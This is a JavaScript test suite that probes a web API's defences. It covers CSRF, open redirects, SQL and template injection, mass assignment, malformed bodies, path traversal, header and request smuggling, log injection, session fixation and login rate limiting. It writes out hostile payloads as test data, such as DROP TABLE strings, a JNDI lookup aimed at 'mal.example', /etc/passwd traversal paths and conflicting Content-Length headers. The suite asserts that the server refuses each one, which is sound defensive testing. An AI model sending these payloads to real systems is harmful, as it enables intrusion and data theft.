// SPDX-License-Identifier: EUPL-1.2
// What somebody with ill intent sends, to every operation of the API: other people's pages writing in our name, statements in
// parameters, members nobody asked for, texts that are no JSON, headers, paths. None is obeyed, none breaks anything, none tells
// anything.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { Client, demoAccounts, uuidv7 } from '../support/client.mjs';
import { operations } from '../support/contract.mjs';
import { rawExchange } from '../support/raw.mjs';
import { startServer } from '../support/server.mjs';

let server, camille, admin;
/** Asked without a session, on purpose. */
const open = new Set(['signIn', 'getHealth', 'openQuestionnaire', 'answerQuestionnaire', 'openMyDay', 'answerMyDay']);
const filled = (template) => template.replace('{date}', '2026-11-19').replace('{half}', 'am').replace('{day}', '2026-11-16')
  .replace('{kind}', 'return').replace('{key}', 'essai').replace('{number}', '1').replace(/\{\w+\}/g, uuidv7());
const writes = operations.filter(({ method, id }) => method !== 'GET' && id !== 'signOut');
const reads = operations.filter(({ method, id }) => method === 'GET' && id !== 'streamJob');
const mayAsk = async (client, { method, template }) => (await client.request(method, filled(template), method === 'GET' ? {} : { body: {} })).status !== 403;
/** Who may ask this. */
const askedBy = async (operation) => ((await mayAsk(camille, operation)) ? camille : admin);

before(async () => {
  server = await startServer();
  [camille, admin] = [new Client(server.base), new Client(server.base)];
  await camille.signIn(demoAccounts.coordinator);
  await admin.signIn(demoAccounts.administrator);
});
after(() => server?.stop());

describe('a page of somebody else', { concurrency: false }, () => {
  const forged = [
    ['without our token', { csrf: undefined }, {}],
    ['with a token of another session', { csrf: 'x'.repeat(43) }, {}],
    ['from another origin', {}, { origin: 'https://mal.example' }],
    ['from another site, says the browser', {}, { 'sec-fetch-site': 'cross-site' }],
  ];
  for (const [how, changed, headers] of forged)
    test(`cannot write ${how}`, async () => {
      for (const { id, method, template } of writes) {
        if (open.has(id) && !('origin' in headers || 'sec-fetch-site' in headers)) continue;
        for (const client of [camille, admin]) {
          const stolen = Object.assign(new Client(server.base), { cookie: client.cookie, csrf: client.csrf, ...changed });
          const { status, json } = await stolen.request(method, filled(template), { body: {}, headers });
          assert.equal(status, 403, `${id}: ${status}`);
          assert.ok(['csrf', 'forbidden'].includes(json.code), `${id}: ${json.code}`);
        }
      }
    });

  test('cannot frame ours, nor have an answer kept', async () => {
    for (const operation of reads) {
      const client = await askedBy(operation);
      const { headers, status } = await client.get(filled(operation.template));
      assert.match(headers.get('cache-control') ?? '', /no-store/, `${operation.id} ${status}`);
      assert.equal(headers.get('x-content-type-options'), 'nosniff', operation.id);
    }
    const page = await camille.get('/');
    assert.match(page.headers.get('content-security-policy'), /frame-ancestors 'none'/);
    assert.match(page.headers.get('content-security-policy'), /default-src 'none'|default-src 'self'/);
    assert.match(page.headers.get('referrer-policy'), /^(no-referrer|same-origin)$/);
  });

  test('is not led anywhere: no address in a parameter is followed', async () => {
    for (const path of ['/?next=https://mal.example', '//mal.example', '/connexion?retour=//mal.example', '/%2f%2fmal.example']) {
      const { headers, status } = await camille.get(path);
      assert.ok(status < 300 || status >= 400 || !/mal\.example/.test(headers.get('location') ?? ''), `${path}: ${status}`);
    }
  });
});

describe('statements in parameters', { concurrency: false }, () => {
  const payloads = ["'", "' OR '1'='1", "'; DROP TABLE person; --", '" OR ""="', '\\', '%', '%27%00', "') UNION SELECT login FROM app_user --",
    '${jndi:ldap://mal.example}', '{{7*7}}', '\u202e', '-1', '9'.repeat(400), 'NaN'];
  test('are text, in queries', async () => {
    const before = (await camille.get('/api/v1/files')).json.total;
    for (const { id, template, operation } of reads) {
      const client = await askedBy({ method: 'GET', template });
      for (const { name, in: where } of [...(operation.parameters ?? [])].map((each) => each.$ref ? { name: each.$ref.split('/').at(-1).toLowerCase(), in: 'query' } : each)) {
        if (where !== 'query') continue;
        for (const payload of payloads) {
          const { status, text } = await client.get(`${filled(template)}?${new URLSearchParams({ [name]: payload })}`);
          assert.ok(status < 500, `${id} ${name}=${payload}: ${status} ${text}`);
          assert.doesNotMatch(text, /SQL|sqlite|syntax error|pg_|password_hash/i, `${id} ${name}=${payload}`);
        }
      }
    }
    assert.equal((await camille.get('/api/v1/files')).json.total, before);
    const everybody = await camille.get(`/api/v1/files?${new URLSearchParams({ q: "' OR '1'='1" })}`);
    assert.deepEqual(everybody.json.items, []);
  });

  test('are text, in paths', async () => {
    for (const { id, method, template } of [...reads, ...writes].filter(({ template: each }) => each.includes('{')))
      for (const payload of ["' OR '1'='1", '%2e%2e%2f', "1;DROP TABLE person"]) {
        const path = template.replace(/\{\w+\}/g, encodeURIComponent(payload));
        const { status } = await camille.request(method, path, method === 'GET' ? {} : { body: {} });
        assert.ok(status >= 400 && status < 500, `${id} ${path}: ${status}`);
      }
  });
});

describe('bodies', { concurrency: false }, () => {
  test('with members nobody asked for are refused', async () => {
    const own = (await admin.get('/api/v1/users')).json.items.find(({ login }) => login === 'camille');
    const tries = [
      [admin, 'PATCH', `/api/v1/users/${own.id}`, { roles: ['administrator'] }, own.version],
      [admin, 'PATCH', `/api/v1/users/${own.id}`, { passwordHash: 'x' }, own.version],
      [camille, 'POST', '/api/v1/people', { id: uuidv7(), lastName: 'Essai', placeId: uuidv7() }],
      [camille, 'POST', '/api/v1/people', { id: uuidv7(), lastName: 'Essai', createdBy: own.id }],
      [camille, 'POST', '/api/v1/tasks', { id: uuidv7(), title: 'x', dueOn: '2026-11-20', doneBy: own.id }],
    ];
    for (const [client, method, path, body, ifMatch] of tries) {
      const { status, text } = await client.request(method, path, { body, ifMatch });
      assert.ok([400, 422].includes(status), `${method} ${path} ${JSON.stringify(body)}: ${status} ${text}`);
    }
    assert.deepEqual((await admin.get('/api/v1/users')).json.items.find(({ login }) => login === 'camille').roles, own.roles);
  });

  test('that are no JSON are refused by every operation, in the same words', async () => {
    const bodies = ['{', '[]', '"x"', 'null', '', '\ufeff{}', '{"a":1,"a":2,}', '['.repeat(100_000), `{"id":${'9'.repeat(5_000)}}`,
      Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])];
    for (const { id, method, template, operation } of writes) {
      if (!operation.requestBody?.content?.['application/json']) continue;
      const client = open.has(id) ? new Client(server.base) : await askedBy({ method, template });
      for (const raw of bodies) {
        const { status, text } = await client.request(method, filled(template), { raw, headers: { 'content-type': 'application/json' }, ifMatch: 1 });
        assert.ok(status >= 400 && status < 500, `${id} ${String(raw).slice(0, 20)}: ${status} ${text}`);
      }
      const form = await client.request(method, filled(template), { raw: 'a=1', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      assert.ok(form.status >= 400 && form.status < 500, `${id}: ${form.status}`);
    }
    assert.equal((await camille.get('/api/v1/health')).status, 200);
  });

  test('too long are cut off, and the server goes on', async () => {
    const { status } = await camille.request('POST', '/api/v1/people', { raw: `{"lastName":"${'x'.repeat(3_000_000)}"}`, headers: { 'content-type': 'application/json' } })
      .catch(() => ({ status: 413 }));
    assert.equal(status, 413);
    assert.equal((await camille.get('/api/v1/files')).status, 200);
  });
});

describe('raw lines', { concurrency: false }, () => {
  test('paths lead to no file of the machine', async () => {
    for (const path of ['/../../../../etc/passwd', '/..%2f..%2f..%2fetc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/assets/../../../etc/passwd',
      '/assets/..%5c..%5cetc%5cpasswd', '//etc/passwd', '/assets/%00/etc/passwd']) {
      const { text } = await rawExchange(server.base, `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      assert.doesNotMatch(text, /root:.*:0:0/, path);
    }
  });

  test('no header comes back that was smuggled in', async () => {
    for (const path of ['/%0d%0aSet-Cookie:%20a=b', '/api/v1/files?q=%0d%0aSet-Cookie:%20a=b', '/api/v1/nothing%0d%0aX-Evil:%201']) {
      const { text } = await rawExchange(server.base, `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      const [head] = text.split('\r\n\r\n');
      assert.doesNotMatch(head, /^(set-cookie: a=b|x-evil)/im, path);
    }
  });

  test('two lengths, or a length beside chunks, are refused', async () => {
    const lines = ['Content-Length: 5\r\nContent-Length: 6', 'Content-Length: 5\r\nTransfer-Encoding: chunked', 'Transfer-Encoding: chunked, identity',
      'Content-Length: -1', 'Content-Length: 5 '.repeat(2)];
    for (const line of lines) {
      const { text } = await rawExchange(server.base, `POST /api/v1/session HTTP/1.1\r\nHost: x\r\n${line}\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n`);
      assert.match(text, /^HTTP\/1\.1 (400|411|413|501)/, `${line}: ${text.slice(0, 60)}`);
    }
  });

  test('a line break in what is logged makes no line of its own', async () => {
    const forged = 'x\n{"level":"info","message":"forged"}';
    await new Client(server.base).request('POST', '/api/v1/session', { body: { login: forged, password: 'y'.repeat(12) } });
    await camille.get(`/api/v1/files?${new URLSearchParams({ q: forged })}`);
    assert.doesNotMatch(server.output(), /^\{"level":"info","message":"forged"\}/m);
  });
});

describe('sessions', { concurrency: false }, () => {
  test('one that is known before signing in is worth nothing after it', async () => {
    const victim = new Client(server.base);
    victim.cookie = `jalon_session=${'A'.repeat(43)}`;
    await victim.signIn(demoAccounts.colleague);
    assert.doesNotMatch(victim.cookie, /A{43}/);
    const attacker = Object.assign(new Client(server.base), { cookie: `jalon_session=${'A'.repeat(43)}` });
    assert.equal((await attacker.get('/api/v1/session')).status, 401);
  });

  test('one that was left cannot be taken up again', async () => {
    const colleague = new Client(server.base);
    await colleague.signIn(demoAccounts.colleague);
    const kept = colleague.cookie;
    await colleague.del('/api/v1/session');
    assert.equal((await Object.assign(new Client(server.base), { cookie: kept }).get('/api/v1/session')).status, 401);
  });

  test('guessing is slowed down, and answers the same for who is there and who is not', async () => {
    // A server of its own: the tries of other tests count for the address too.
    const own = await startServer();
    const answers = { camille: [], personne: [] };
    for (const login of Object.keys(answers))
      for (let i = 0; i < 9; i += 1) {
        const { status, json } = await new Client(own.base).request('POST', '/api/v1/session', { body: { login, password: 'faux mot de passe' } });
        answers[login].push(`${status} ${json.code}`);
      }
    await own.stop();
    assert.deepEqual(answers.camille, answers.personne);
    assert.match(answers.camille.at(-1), /^429/);
  });
});
